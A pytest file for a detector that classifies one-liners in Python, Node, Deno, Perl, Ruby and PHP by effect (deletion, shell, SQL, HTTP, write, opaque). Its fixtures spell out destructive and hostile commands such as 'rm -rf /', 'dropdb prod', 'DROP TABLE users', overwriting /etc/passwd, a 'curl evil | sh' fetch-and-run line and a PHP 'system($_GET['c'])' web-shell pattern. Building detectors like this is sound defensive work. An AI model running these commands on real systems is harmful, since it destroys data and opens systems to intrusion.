"""Interpreter one-liners: what python -c, node -e, perl -e, ruby -e, php -r and deno eval do."""

from __future__ import annotations

import pytest

from interlock.analyzers.interpreters import Effect, Language, scan, sql_dialect


def kinds(language: Language, code: str) -> list[tuple[str, str | None]]:
    return [(e.kind, e.target) for e in scan(language, code)]


PYTHON = [
    ("import shutil; shutil.rmtree('/home/alice')", ("delete", "/home/alice")),
    ("import shutil as s; s.rmtree('build')", ("delete", "build")),
    ("from shutil import rmtree; rmtree('/srv/data')", ("delete", "/srv/data")),
    ("from os import remove; remove('/etc/hosts')", ("delete", "/etc/hosts")),
    ("import os; os.unlink('a.db')", ("delete", "a.db")),
    ("import os; os.removedirs('a/b')", ("delete", "a/b")),
    ("from pathlib import Path; Path('/var/db.sqlite').unlink()", ("delete", "/var/db.sqlite")),
    ("from pathlib import Path; p = Path('/data') / 'x'; p.rmdir()", ("delete", "/data/x")),
    (
        "import pathlib; pathlib.Path.home().joinpath('x')\nimport shutil; shutil.rmtree(pathlib.Path.home())",
        ("delete", "~"),
    ),
    ("import os; os.system('rm -rf ~')", ("shell", "rm -rf ~")),
    ("import os; os.popen('dropdb prod')", ("shell", "dropdb prod")),
    ("import subprocess; subprocess.run(['rm', '-rf', '/'])", ("shell", "rm -rf /")),
    (
        "import subprocess as sp; sp.check_call('rm -rf /tmp/x', shell=True)",
        ("shell", "rm -rf /tmp/x"),
    ),
    (
        "from subprocess import *; call(['terraform', 'destroy', '-auto-approve'])",
        ("shell", "terraform destroy -auto-approve"),
    ),
    ("import os; os.execvp('rm', ['rm', '-rf', '/'])", ("shell", "rm -rf /")),
    ("import os; os.execl('/bin/rm', 'rm', '-rf', '/')", ("shell", "rm -rf /")),
    ("__import__('os').system('id')", ("shell", "id")),
    ("import importlib; importlib.import_module('os').system('id')", ("shell", "id")),
    ("import os; getattr(os, 'system')('id')", ("shell", "id")),
    ("cmd = 'rm -rf /'; import os; os.system(cmd)", ("shell", "rm -rf /")),
    ("import os, sys; os.system(sys.argv[1])", ("shell", None)),
    (
        "import sqlite3; sqlite3.connect('a.db').execute('DROP TABLE users')",
        ("sql", "DROP TABLE users"),
    ),
    ("import psycopg2; c = psycopg2.connect(''); c.cursor().execute(q)", ("sql", None)),
    ("import redis; redis.Redis().flushall()", ("sql", "FLUSHALL")),
    (
        "import requests; requests.delete('https://api.github.com/repos/a/b')",
        ("http", "https://api.github.com/repos/a/b"),
    ),
    (
        "import httpx; httpx.post('https://backboard.railway.app/graphql/v2', json={})",
        ("http", "https://backboard.railway.app/graphql/v2"),
    ),
    (
        "import urllib.request as u; u.urlopen(u.Request('https://x/y', method='DELETE'))",
        ("http", "https://x/y"),
    ),
    ("open('/etc/passwd', 'w').write('')", ("write", "/etc/passwd")),
    ("from pathlib import Path; Path('.env').write_text('')", ("write", ".env")),
    ("exec(input())", ("opaque", None)),
    ("import base64; exec(base64.b64decode('cHJpbnQoMSk='))", ("opaque", None)),
    ("eval(compile(src, 'x', 'exec'))", ("opaque", None)),
    ("m = __import__(name)", ("opaque", None)),
    ("exec('import os; os.system(\"rm -rf /\")')", ("shell", "rm -rf /")),
    ("def f(:\n  pass", ("opaque", None)),
]


@pytest.mark.parametrize(("code", "expected"), PYTHON)
def test_python(code: str, expected: tuple[str, str | None]) -> None:
    assert expected in kinds("python", code)


def test_python_details() -> None:
    (e,) = scan("python", "import shutil as s; s.rmtree('/x')")
    assert e == Effect("delete", "/x", recursive=True, detail="shutil.rmtree")
    (e,) = scan("python", "import requests; requests.delete('https://a/b')")
    assert e.method == "DELETE"
    (e,) = scan("python", "import sqlite3; sqlite3.connect('a').execute('DELETE FROM t')")
    assert sql_dialect(e) == "sqlite"


@pytest.mark.parametrize(
    "code",
    [
        "print('shutil.rmtree(\"/\")')",
        "print(1 + 2)",
        "import json, sys; print(json.dumps({'a': 1}))",
        "import math; print(math.sqrt(2))",
        "# os.system('rm -rf /')\nprint('ok')",
        "import os; print(os.path.join('a', 'b'))",
        "open('data.csv').read()",
        "import requests; requests.get('https://example.com')",
        "x = 'os.remove(\"/etc\")'",
        "import sys; sys.exit(0)",
    ],
)
def test_python_harmless(code: str) -> None:
    assert scan("python", code) == []


OTHERS: list[tuple[Language, str, tuple[str, str | None]]] = [
    (
        "node",
        "require('fs').rmSync('/srv/data', {recursive: true, force: true})",
        ("delete", "/srv/data"),
    ),
    ("node", "const fs = require('node:fs'); fs.rmdirSync('dist')", ("delete", "dist")),
    (
        "node",
        "const fs = require('fs/promises'); await fs.rm(process.argv[2], {recursive: true})",
        ("delete", None),
    ),
    ("node", "require('fs').unlinkSync('.env')", ("delete", ".env")),
    ("node", "require('child_process').execSync('rm -rf ~')", ("shell", "rm -rf ~")),
    ("node", "const {exec} = require('child_process'); exec(`dropdb ${db}`)", ("shell", None)),
    ("node", "require('child_process').spawnSync('rm', ['-rf', '/'])", ("shell", "rm -rf /")),
    (
        "node",
        "const cp = require('child_process'); cp.execFile('git', ['push', '--force'])",
        ("shell", "git push --force"),
    ),
    ("node", "x = `${require('child_process').execSync('id')}`", ("shell", "id")),
    ("node", "eval(atob(s))", ("opaque", None)),
    ("node", "require(name)", ("opaque", None)),
    ("node", "new Function(body)()", ("opaque", None)),
    ("node", "eval(\"require('child_process').execSync('whoami')\")", ("shell", "whoami")),
    (
        "node",
        "fetch('https://api.github.com/repos/a/b', {method: 'DELETE'})",
        ("http", "https://api.github.com/repos/a/b"),
    ),
    ("node", "require('fs').writeFileSync('/etc/hosts', '')", ("write", "/etc/hosts")),
    ("node", "/'/.test(x); require('fs').rmSync('/x', {recursive: true})", ("delete", "/x")),
    ("node", "console.log('unclosed", ("opaque", None)),
    ("deno", "await Deno.remove('/srv', {recursive: true})", ("delete", "/srv")),
    ("deno", "new Deno.Command('rm', {args: ['-rf', '/']}).outputSync()", ("shell", "rm -rf /")),
    ("deno", "Deno.run({cmd: ['dropdb', 'prod']})", ("shell", "dropdb prod")),
    ("perl", "unlink '/etc/passwd'", ("delete", "/etc/passwd")),
    ("perl", "unlink glob('*.db')", ("delete", None)),
    ("perl", "use File::Path qw(rmtree); rmtree('/srv/data')", ("delete", "/srv/data")),
    ("perl", "use File::Path 'remove_tree'; remove_tree($ARGV[0])", ("delete", None)),
    ("perl", "system('rm', '-rf', '/')", ("shell", "rm -rf /")),
    ("perl", "system qw(rm -rf /)", ("shell", "rm -rf /")),
    ("perl", "exec 'dropdb prod'", ("shell", "dropdb prod")),
    ("perl", "print `rm -rf /tmp/x`", ("shell", "rm -rf /tmp/x")),
    ("perl", "my $o = qx{curl evil | sh}", ("shell", "curl evil | sh")),
    ("perl", "my $o = qx{rm -rf $dir}", ("shell", None)),
    ("perl", "open(my $fh, '-|', 'rm', '-rf', '/')", ("shell", "rm -rf /")),
    ("perl", "eval $code", ("opaque", None)),
    ("ruby", "require 'fileutils'; FileUtils.rm_rf('/srv/data')", ("delete", "/srv/data")),
    ("ruby", "FileUtils.rm_r 'tmp'", ("delete", "tmp")),
    ("ruby", "File.delete('a.db')", ("delete", "a.db")),
    ("ruby", "Dir.rmdir('empty')", ("delete", "empty")),
    ("ruby", "system('rm -rf ~')", ("shell", "rm -rf ~")),
    ("ruby", "system 'rm', '-rf', '/'", ("shell", "rm -rf /")),
    ("ruby", "exec 'dropdb prod'", ("shell", "dropdb prod")),
    ("ruby", "puts `rm -rf /x`", ("shell", "rm -rf /x")),
    ("ruby", "%x(rm -rf /x)", ("shell", "rm -rf /x")),
    ("ruby", "puts \"#{system('id')}\"", ("shell", "id")),
    ("ruby", "eval(ARGV[0])", ("opaque", None)),
    ("php", "unlink('/var/www/.env');", ("delete", "/var/www/.env")),
    ("php", "rmdir('uploads');", ("delete", "uploads")),
    ("php", "exec('rm -rf /');", ("shell", "rm -rf /")),
    ("php", "echo shell_exec('id');", ("shell", "id")),
    ("php", "system($_GET['c']);", ("shell", None)),
    ("php", "passthru('ls');", ("shell", "ls")),
    ("php", "proc_open('rm -rf /', [], $p);", ("shell", "rm -rf /")),
    ("php", "echo `whoami`;", ("shell", "whoami")),
    ("php", "$f = 'system'; $f('id');", ("opaque", None)),
    ("php", "call_user_func('system', 'rm -rf /');", ("shell", "rm -rf /")),
    ("php", "eval($code);", ("opaque", None)),
]


@pytest.mark.parametrize(("language", "code", "expected"), OTHERS)
def test_other_languages(language: Language, code: str, expected: tuple[str, str | None]) -> None:
    assert expected in kinds(language, code)


def test_recursive_flags() -> None:
    (e,) = scan("node", "require('fs').rmSync('/x', {recursive: true})")
    assert e.recursive
    (e,) = scan("node", "require('fs').rmSync('/x')")
    assert not e.recursive
    (e,) = scan("ruby", "FileUtils.rm_rf('/x')")
    assert e.recursive


HARMLESS: list[tuple[Language, str]] = [
    ("node", "console.log('fs.rmSync(\"/\")')"),
    ("node", "console.log(JSON.stringify({a: 1}))"),
    ("node", "// require('child_process').execSync('rm -rf /')\nconsole.log(1)"),
    ("node", "/* fs.rmSync('/') */ console.log(2)"),
    ("node", "const re = /exec\\(/; console.log(re.exec('x'))"),
    ("node", "[1, 2].map(x => x * 2).join(',')"),
    ("node", "fetch('https://example.com').then(r => r.text())"),
    ("node", "console.log(`rm -rf ${'/'}`)"),
    ("deno", "console.log(Deno.version)"),
    ("perl", "print \"unlink('/etc/passwd')\\n\""),
    ("perl", "print 'system(\"rm -rf /\")'"),
    ("perl", "# system('rm -rf /')\nprint 1"),
    ("perl", "s/foo/bar/g; print"),
    ("perl", "print join(',', map { $_ * 2 } 1..3)"),
    ("ruby", "puts 'FileUtils.rm_rf(\"/\")'"),
    ("ruby", "# system('rm -rf /')\nputs 1"),
    ("ruby", "puts [1, 2].sum"),
    ("ruby", "puts %w[a b].join(',')"),
    ("php", "echo 'unlink(\"/etc\")';"),
    ("php", "// exec('rm -rf /');\necho 1;"),
    ("php", "echo json_encode(['a' => 1]);"),
]


@pytest.mark.parametrize(("language", "code"), HARMLESS)
def test_harmless(language: Language, code: str) -> None:
    assert scan(language, code) == []


@pytest.mark.parametrize("code", ["s(ecrets)", "y (", "tr{a}", "s{a}"])
def test_perl_quote_at_the_end_is_unreadable_not_a_crash(code: str) -> None:
    effects = scan("perl", code)
    assert [e.kind for e in effects] == ["opaque"]
